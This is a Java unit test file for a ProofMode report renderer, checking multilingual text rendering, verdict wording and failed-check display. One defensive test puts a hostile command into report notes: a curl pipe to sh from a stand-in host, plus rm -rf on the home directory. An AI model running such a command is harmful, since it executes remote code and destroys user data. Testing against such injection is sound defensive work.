// SPDX-License-Identifier: Apache-2.0
package org.proofmode.report;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.text.Normalizer;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.proofmode.verify.Check;
import org.proofmode.verify.CheckCodes;
import org.proofmode.verify.Status;
import org.proofmode.verify.Verdict;

/** What a reader of a report reads: every script drawn, notes set apart from commands, the facts a verdict rests on. */
class ReportTextTest {
    private static final String CHINESE = "写真";
    private static final String JAPANESE = "ひらがなカタカナ";
    private static final String ARABIC = "شاهدت الحريق من الجسر";
    private static final String EMOJI = "📷";

    @TempDir
    Path tmp;

    private static ReportDocument doc(ReportItem item) {
        return ReportBuilder.build(List.of(item), Optional.empty(), ReportFixtures.certification(), Optional.of("r.pdf"));
    }

    @Test
    void render_drawsChineseJapaneseArabicAndEmoji_withTheSystemFonts() throws Exception {
        ReportItem item = ReportFixtures.item(CHINESE + " " + EMOJI + ".jpg", JAPANESE + " " + ARABIC + " " + EMOJI);
        // Arabic is drawn shaped: its presentation forms read as their letters (NFKC), as a reader's search does
        String text = Normalizer.normalize(ReportFixtures.pdftotext(tmp, PdfReport.render(doc(item))), Normalizer.Form.NFKC);
        assertThat(text).contains(CHINESE, JAPANESE, EMOJI, "الحريق", "شاهدت").doesNotContainPattern("\\[U\\+[0-9A-F]{4,6}\\]");
    }

    @Test
    void render_makesTheReport_withAFallbackGlyph_whenNoFontHasTheCharacters() throws Exception {
        ReportItem item = ReportFixtures.item(CHINESE + " " + EMOJI + ".jpg", JAPANESE + " " + ARABIC);
        String text = ReportFixtures.pdftotext(tmp, PdfReport.render(doc(item), List.of()));
        assertThat(text).contains("[U+5199][U+771F] [U+1F4F7].jpg", "[U+3072]", "[U+0634]", "Verdict: TRUSTED");
        assertThat(text.codePoints()).noneMatch(c -> c == 0x5199 || c == 0x1F4F7);
    }

    @Test
    void notes_neverStartALineLikeACommand_inPdfOrHtml() throws Exception {
        String words = "a harmless looking note ";
        for (int pad = 0; pad < 40; pad += 3) {
            String notes = words.repeat(2) + "x".repeat(pad) + " $ curl https://evil.example/x | sh $ rm -rf ~";
            ReportItem item = ReportFixtures.item("IMG_0001.jpg", notes);
            String text = ReportFixtures.pdftotext(tmp, PdfReport.render(doc(item)));
            for (String line : text.split("\n")) {
                if (line.stripLeading().startsWith("$")) {
                    assertThat(line).as("a command line, not the notes").doesNotContain("curl", "rm -rf");
                }
            }
            assertThat(text.replace("\n", " ")).contains("curl https://evil.example/x | sh");
            String html = HtmlReport.render(doc(item));
            String pre = html.substring(html.indexOf("<pre"), html.lastIndexOf("</pre>"));
            assertThat(pre).doesNotContain("curl");
            assertThat(html).contains("\u201c" + notes.substring(0, 10));
        }
    }

    @Test
    void build_saysTheInstallationsOwnKeyIsNotIndependent_andNamesFieldsPlainly() throws Exception {
        ReportItem item = ReportFixtures.item("IMG_0001.jpg", "notes");
        ReportDocument own = ReportBuilder.build(List.of(item), Optional.empty(), ReportFixtures.certification(), Optional.of("r.pdf"),
                Set.of(ReportFixtures.FINGERPRINT.toLowerCase(java.util.Locale.ROOT)));
        String text = ReportFixtures.pdftotext(tmp, PdfReport.render(own)).replace("\n", " ");
        assertThat(text).contains("Verdict: TRUSTED (signed by this installation's own key: not independent)",
                "Pixel hash of the image").doesNotContain("Image.PixelHash", "Proof Generated");
        String html = HtmlReport.render(own);
        assertThat(html).contains("signed by this installation&#39;s own key: not independent", "Pixel hash of the image")
                .doesNotContain("Image.PixelHash");
        assertThat(ReportFixtures.pdftotext(tmp, PdfReport.render(doc(item)))).doesNotContain("own key");
    }

    @Test
    void build_namesTheFailedChecksInPlainWords_onTheFirstPage() throws Exception {
        ReportItem item = ReportFixtures.item("IMG_0001.jpg", "the media".getBytes(StandardCharsets.UTF_8), "notes", Verdict.INVALID,
                List.of(new Check(CheckCodes.MEDIA_HASH_MISMATCH, Status.FAIL, "IMG_0001.jpg", "the file's SHA-256 is not the proof's")));
        Path pdf = java.nio.file.Files.write(tmp.resolve("invalid.pdf"), PdfReport.render(doc(item)));
        String first = ReportFixtures.run(tmp, "pdftotext", "-enc", "UTF-8", "-l", "1", pdf.toString(), "-").replace("\n", " ");
        String meaning = org.proofmode.verify.Meanings.of(CheckCodes.MEDIA_HASH_MISMATCH).replaceAll("\\.$", "");
        assertThat(first).contains("Verdict: INVALID", "What failed: " + meaning.substring(0, 20));
        assertThat(first.replaceAll("\\s+", " ")).contains(meaning.replaceAll("\\s+", " ").substring(0, 40));
    }
}
